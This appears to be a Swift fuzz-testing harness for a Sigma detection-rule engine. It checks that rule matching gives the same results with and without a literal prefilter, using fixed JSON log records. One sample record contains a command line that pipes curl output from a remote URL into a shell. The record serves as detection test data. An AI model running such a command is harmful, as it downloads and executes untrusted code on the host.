import Foundation
import BulkheadEngine
import BulkheadEvent
import BulkheadRules
import BulkheadSources
import FuzzSupport

/// Sigma YAML: the loader (documents, modifiers, correlation and filter rules, alias budget),
/// the condition parser, the compiler (regexes, globs, CIDRs, encodings) and the match programs
/// and prefilter made from the rules. Differential as well: every rule set is built with the
/// literal prefilter and without it, and both must match the same rules on the same records
/// (fixed ones, and the input itself when it is a JSON object); a difference traps.
let records: [[UInt8]] = [
    #"{"a":"x","b":1,"c":true,"d":null,"e":["x","y"],"f":{"g":"h"},"CommandLine":"/bin/sh -c curl http://x | sh","Image":"/usr/bin/curl"}"#,
    #"{"verb":"create","objectRef":{"resource":"pods","namespace":"kube-system"},"user":{"username":"system:serviceaccount:a:b"},"responseStatus":{"code":403}}"#,
    #"{"eventName":"StopLogging","eventSource":"cloudtrail.amazonaws.com","sourceIPAddress":"10.1.2.3","userIdentity":{"type":"IAMUser"}}"#,
].map { Array($0.utf8) }

func matches(_ set: RuleSet, _ record: [UInt8], tape: inout JSONTape) -> [[Int]] {
    let engine = Engine(ruleSet: set)
    let scratch = ScratchBuffer()
    return record.withUnsafeBytes { raw in
        (try? EventView.with(bytes: raw, tape: &tape, scratch: scratch) { v -> [[Int]] in
            var out: [[Int]] = []
            for (f, m) in set.mappings.enumerated() {
                for k in m.kinds.indices { out.append(engine.matchingRules(v, format: f, kind: k)) }
            }
            return out
        }) ?? []
    }
}

func fuzzOne(_ bytes: UnsafeRawBufferPointer) {
    guard bytes.count < 64 << 10 else { return }
    let text = String(decoding: bytes, as: UTF8.self)
    let loaded = RuleLoader().load(yaml: text, file: "fuzz.yml")
    let indexed = RuleSet(documents: loaded.documents)
    _ = try? ConditionParser.parse(text, identifiers: ["selection", "filter", "keywords", "sel1", "sel2"])
    guard indexed.ruleCount > 0 else { return }
    var options = RuleCompiler.Options()
    options.prefilter = false
    let plain = RuleSet(documents: loaded.documents, options: options)
    var tape = JSONTape()
    var inputs = records
    if bytes.first == UInt8(ascii: "{") { inputs.append(Array(bytes)) }
    for r in inputs where matches(indexed, r, tape: &tape) != matches(plain, r, tape: &tape) {
        fatalError("the prefilter changed which rules match")
    }
}

@main struct Target {
    static func main() {
        FuzzMain.run { data, size in
            fuzzOne(UnsafeRawBufferPointer(start: data, count: size))
            return 0
        }
    }
}
